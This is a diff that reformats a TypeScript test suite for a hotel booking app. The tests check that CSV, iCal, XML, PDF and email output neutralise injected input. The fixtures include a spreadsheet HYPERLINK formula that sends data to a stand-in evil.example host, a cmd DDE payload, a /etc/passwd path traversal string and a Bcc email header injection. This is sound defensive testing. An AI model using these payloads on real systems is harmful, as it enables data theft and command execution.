@@ -28,7 +28,22 @@ import { createMailer } from '../../src/server/plugins/mail.js';
 const INJECTED_ROOM = 'Suite\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nEND:VEVENT';
 const HOTEL = ' =HYPERLINK("http://evil.example/?"&A1)/../../etc/passwd <b>Bold</b>;,\\ "quoted" ]]>';
 /** Room names a spreadsheet would run, each with what the CSV must hold instead. */
-const FORMULAS = ['=1+2', '  =cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '+1', '-2+3', '＝1+2', '＋1', '－1', '＠SUM(A1)', '|calc', '\n=1+2', '\r\n+1', '\tx', '\u3000=1'];
+const FORMULAS = [
+  '=1+2',
+  "  =cmd|' /C calc'!A0",
+  '@SUM(A1:A9)',
+  '+1',
+  '-2+3',
+  '＝1+2',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  '|calc',
+  '\n=1+2',
+  '\r\n+1',
+  '\tx',
+  '\u3000=1',
+];
 const HARMLESS = ['-5', 'Double', 'a=b'];
 
 /** RFC 4180 rows as lists of cells (a leading byte-order mark dropped). */
@@ -75,7 +90,12 @@ for (const dialect of dialects()) {
       property = (await createProperty(t, hotel.owner.token, { hotel_name: HOTEL })).id;
       const saved = await t.api('POST', `/api/facts/rooms/update/${property}/`, {
         token: hotel.owner.token,
-        body: [INJECTED_ROOM, ...FORMULAS, ...HARMLESS].map((room_name) => ({ id: 0, room_name, room_name_type: 'double room', room_view: 'Sea view' })),
+        body: [INJECTED_ROOM, ...FORMULAS, ...HARMLESS].map((room_name) => ({
+          id: 0,
+          room_name,
+          room_name_type: 'double room',
+          room_view: 'Sea view',
+        })),
       });
       expect(saved.statusCode, saved.body).toBe(200);
       rooms = saved.json() as Json[];
@@ -84,15 +104,35 @@ for (const dialect of dialects()) {
       const now = t.clock.now().toISOString();
       await t.services.db.kysely
         .insertInto('stop_sale_events')
-        .values(['2026-12-02', '2026-12-03'].map((date) => ({ property_id: property, room_id: rooms[0]!.id as number, date, color: 2, updated_by: hotel.owner.id, updated_at: now })) as never)
+        .values(
+          ['2026-12-02', '2026-12-03'].map((date) => ({
+            property_id: property,
+            room_id: rooms[0]!.id as number,
+            date,
+            color: 2,
+            updated_by: hotel.owner.id,
+            updated_at: now,
+          })) as never,
+        )
         .execute();
-      await expectStatus(await call(t, op.owner, 'POST', '/api/tour-operator/mapping/hotel/create/', { hotel: property, override_code: 'H<1>&"', stop_event_code: 'SS;,\\x' }), 201);
+      await expectStatus(
+        await call(t, op.owner, 'POST', '/api/tour-operator/mapping/hotel/create/', {
+          hotel: property,
+          override_code: 'H<1>&"',
+          stop_event_code: 'SS;,\\x',
+        }),
+        201,
+      );
     }, 120_000);
     afterAll(() => t.stop());
 
-    it("keeps a room feed to its own events whatever the room is named: text escaped, lines folded at 75 octets", async () => {
+    it('keeps a room feed to its own events whatever the room is named: text escaped, lines folded at 75 octets', async () => {
       const key = await apiKey(t, op.owner);
-      const res = await partner(t, key.token, `/api/v1/properties/${property}/rooms/${rooms[0]!.id}/stop-sale/ical/?from=2026-12-01&to=2026-12-10`);
+      const res = await partner(
+        t,
+        key.token,
+        `/api/v1/properties/${property}/rooms/${rooms[0]!.id}/stop-sale/ical/?from=2026-12-01&to=2026-12-10`,
+      );
       expect(res.statusCode, res.body).toBe(200);
       const lines = res.body.split('\r\n');
       expect(lines.filter((l) => l === 'BEGIN:VEVENT')).toHaveLength(1);
@@ -112,9 +152,17 @@ for (const dialect of dialects()) {
 
     it('keeps hotel text as attribute text in the OTA XML', async () => {
       const key = await apiKey(t, op.owner);
-      const res = await partner(t, key.token, `/api/v1/properties/${property}/stop-sale/ota/?from=2026-12-01&to=2026-12-10`);
+      const res = await partner(
+        t,
+        key.token,
+        `/api/v1/properties/${property}/stop-sale/ota/?from=2026-12-01&to=2026-12-10`,
+      );
       expect(res.statusCode, res.body).toBe(200);
-      const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', isArray: (n) => n === 'AvailStatusMessage' }).parse(res.body) as Json;
+      const doc = new XMLParser({
+        ignoreAttributes: false,
+        attributeNamePrefix: '',
+        isArray: (n) => n === 'AvailStatusMessage',
+      }).parse(res.body) as Json;
       const messages = doc.OTA_HotelAvailNotifRQ.AvailStatusMessages;
       expect(messages.HotelName).toBe(HOTEL.trim());
       expect(messages.HotelCode).toBe('H<1>&"');
@@ -123,9 +171,18 @@ for (const dialect of dialects()) {
     });
 
     it("neutralises formulas in the operator's CSV and keeps zip entries inside their folder", async () => {
-      const created = await expectStatus(await call(t, op.owner, 'POST', '/api/tour-operator/exports/', { hotels: [property], contents: ['json', 'csv'], language: 'en', layout: 'G' }), 201);
+      const created = await expectStatus(
+        await call(t, op.owner, 'POST', '/api/tour-operator/exports/', {
+          hotels: [property],
+          contents: ['json', 'csv'],
+          language: 'en',
+          layout: 'G',
+        }),
+        201,
+      );
       await t.services.jobs.runDue();
-      const zip = (await t.api('GET', `/api/tour-operator/exports/${created.id}/download/`, { token: op.owner.token })).rawPayload;
+      const zip = (await t.api('GET', `/api/tour-operator/exports/${created.id}/download/`, { token: op.owner.token }))
+        .rawPayload;
       const names = zipNames(zip);
       for (const name of names) {
         expect(name.split('/'), name).not.toContain('..');
@@ -145,7 +202,9 @@ for (const dialect of dialects()) {
     });
 
     it('prints markup a hotel typed as text in its fact-sheet PDF', async () => {
-      const res = await t.api('GET', `/api/facts/download-facts/${property}/?layout=&language=en`, { token: hotel.owner.token });
+      const res = await t.api('GET', `/api/facts/download-facts/${property}/?layout=&language=en`, {
+        token: hotel.owner.token,
+      });
       expect(res.statusCode, res.body.slice(0, 200)).toBe(201);
       // Compared without white space: the sheet may wrap a long name anywhere (after "</" too).
       const text = pdfText(res.rawPayload).replace(/\s+/g, '');
@@ -159,25 +218,51 @@ for (const dialect of dialects()) {
     const box = new Mailbox();
     const outbox = mkdtempSync(path.join(os.tmpdir(), 'ananas-outbox-'));
     beforeAll(async () => {
-      const real = createMailer({ from: 'Ananas <no-reply@ananas.local>', outboxDir: outbox, log: { info: () => undefined } as never });
+      const real = createMailer({
+        from: 'Ananas <no-reply@ananas.local>',
+        outboxDir: outbox,
+        log: { info: () => undefined } as never,
+      });
       t = await startTestApp(dialect, { mailer: { send: async (m) => (await box.send(m), await real.send(m)) } });
     });
     afterAll(() => t.stop());
 
-    it("writes a name with line breaks into the subject of an invitation, never as a header of its own", async () => {
+    it('writes a name with line breaks into the subject of an invitation, never as a header of its own', async () => {
       const email = `eve-${Math.random().toString(36).slice(2, 8)}@example.com`;
       const first = 'Eve\r\nBcc: victim@evil.example\r\nX-Injected: 1';
-      const reg = await t.api('POST', '/api/auth/users/', { body: { email, password: PASSWORD, re_password: PASSWORD, account_type: 'accommodation', first_name: first, last_name: 'Owner\nSubject: other' } });
+      const reg = await t.api('POST', '/api/auth/users/', {
+        body: {
+          email,
+          password: PASSWORD,
+          re_password: PASSWORD,
+          account_type: 'accommodation',
+          first_name: first,
+          last_name: 'Owner\nSubject: other',
+        },
+      });
       expect(reg.statusCode, reg.body).toBe(201);
       const { uid, token } = box.link(email, 'activate');
       expect((await t.api('POST', '/api/auth/users/activation/', { body: { uid, token } })).statusCode).toBe(204);
       const owner: Account = { id: reg.json().id, email, token: await signIn(t, email) };
       const member = `member-${Math.random().toString(36).slice(2, 8)}@example.com`;
-      const invite = await t.api('POST', '/api/auth/users/', { token: owner.token, body: { email: member, password: PASSWORD, re_password: PASSWORD, account_type: 'accommodation', first_name: 'Mo', last_name: 'Member', manager: owner.id } });
+      const invite = await t.api('POST', '/api/auth/users/', {
+        token: owner.token,
+        body: {
+          email: member,
+          password: PASSWORD,
+          re_password: PASSWORD,
+          account_type: 'accommodation',
+          first_name: 'Mo',
+          last_name: 'Member',
+          manager: owner.id,
+        },
+      });
       expect(invite.statusCode, invite.body).toBe(201);
       const files = readdirSync(outbox).filter((f) => f.endsWith('.eml'));
       const parsed = await Promise.all(files.map((f) => PostalMime.parse(readFileSync(path.join(outbox, f)))));
-      const invitation = parsed.find((m) => m.to?.some((a) => a.address === member) && /invited you/.test(m.subject ?? ''));
+      const invitation = parsed.find(
+        (m) => m.to?.some((a) => a.address === member) && /invited you/.test(m.subject ?? ''),
+      );
       expect(invitation, JSON.stringify(parsed.map((m) => m.subject))).toBeDefined();
       expect(invitation!.bcc ?? []).toEqual([]);
       expect(invitation!.to).toHaveLength(1);
